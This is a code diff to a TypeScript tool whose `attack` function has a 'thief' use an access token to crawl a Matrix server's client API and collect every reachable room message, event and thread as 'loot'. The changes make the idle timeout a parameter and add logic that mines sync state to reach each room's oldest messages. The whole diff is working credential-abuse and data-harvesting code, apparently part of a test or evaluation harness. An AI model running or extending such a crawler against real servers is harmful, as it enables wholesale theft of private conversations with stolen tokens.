@@ -8,8 +8,6 @@ const CONNECTIONS = 64
 const TRIES = 2
 /** Rooms that are asked in every way; all others are asked by /messages. */
 const ROOMS_ASKED_IN_EVERY_WAY = 40
-/** The thief gives up when nothing new came for so long. */
-const PATIENCE_MS = 6_000
 
 export interface Attack {
   readonly loot: Loot
@@ -18,13 +16,23 @@ export interface Attack {
   requests: number
 }
 
+interface Seen {
+  readonly event_id?: unknown
+  readonly room_id?: unknown
+}
+
+interface SyncedRoom {
+  readonly state?: { readonly events?: readonly Seen[] }
+  readonly timeline?: { readonly events?: readonly Seen[] }
+}
+
 interface Job {
   readonly path: string
   readonly tries: number
 }
 
-/** Reads all that can be reached until there is nothing left to ask, or the token is refused. */
-export async function attack(thief: Thief, rooms: readonly string[], into: Attack): Promise<void> {
+/** Reads all that can be reached until there is nothing left to ask, nothing new came for `patienceMs`, or the token is refused. */
+export async function attack(thief: Thief, rooms: readonly string[], into: Attack, patienceMs: number): Promise<void> {
   const jobs = new Jobs(rooms)
   let newMs = performance.now()
   await Promise.all(
@@ -33,7 +41,7 @@ export async function attack(thief: Thief, rooms: readonly string[], into: Attac
       for (let job = jobs.next(); job !== undefined; job = jobs.next()) {
         const answer = await ask(job.path)
         if (note(into, answer, job.path) > 0) newMs = performance.now()
-        if (performance.now() - newMs > PATIENCE_MS) return
+        if (performance.now() - newMs > patienceMs) return
         if (answer.status === 401) return
         jobs.after(job, answer)
       }
@@ -96,7 +104,6 @@ class Jobs {
       this.#add(`${V3}/${at}/messages?dir=f&limit=1000`)
       this.#add(`/_matrix/client/v1/${at}/threads?limit=100`)
       this.#add(`${V3}/${at}/initialSync?limit=100`)
-      this.#add(`${V3}/${at}/context/${encodeURIComponent(`$sample-${room.slice(7).split(':')[0]}-10`)}?limit=100`)
     }
     this.#add(`${V3}/initialSync?limit=100`)
     this.#add(`${V3}/events?timeout=0`)
@@ -124,11 +131,23 @@ class Jobs {
     }
     if (path.endsWith('/sync') && typeof nextBatch === 'string')
       this.#add(`${path}?since=${encodeURIComponent(nextBatch)}&timeout=0`)
-    for (const event of Array.isArray(chunk) ? chunk.slice(0, 3) : [])
-      this.#around(event as { event_id?: unknown; room_id?: unknown })
+    for (const { event_id: id, room_id: room } of Array.isArray(chunk) ? (chunk.slice(0, 3) as Seen[]) : []) {
+      this.#around(room, id)
+    }
+    this.#aroundSynced(body)
   }
 
-  #around({ event_id: id, room_id: room }: { event_id?: unknown; room_id?: unknown }): void {
+  // State costs nothing and names a room's first events: their surroundings are its oldest messages.
+  #aroundSynced(body: unknown): void {
+    const { join = {} } = (body as { rooms?: { join?: Record<string, SyncedRoom> } } | null)?.rooms ?? {}
+    for (const [room, { state, timeline }] of Object.entries(join).slice(0, ROOMS_ASKED_IN_EVERY_WAY)) {
+      for (const seen of [state?.events?.[0], timeline?.events?.[0], timeline?.events?.at(-1)]) {
+        this.#around(room, seen?.event_id)
+      }
+    }
+  }
+
+  #around(room: unknown, id: unknown): void {
     if (typeof id !== 'string' || typeof room !== 'string') return
     const [event, at] = [encodeURIComponent(id), `rooms/${encodeURIComponent(room)}`]
     this.#add(`${V3}/${at}/event/${event}`)
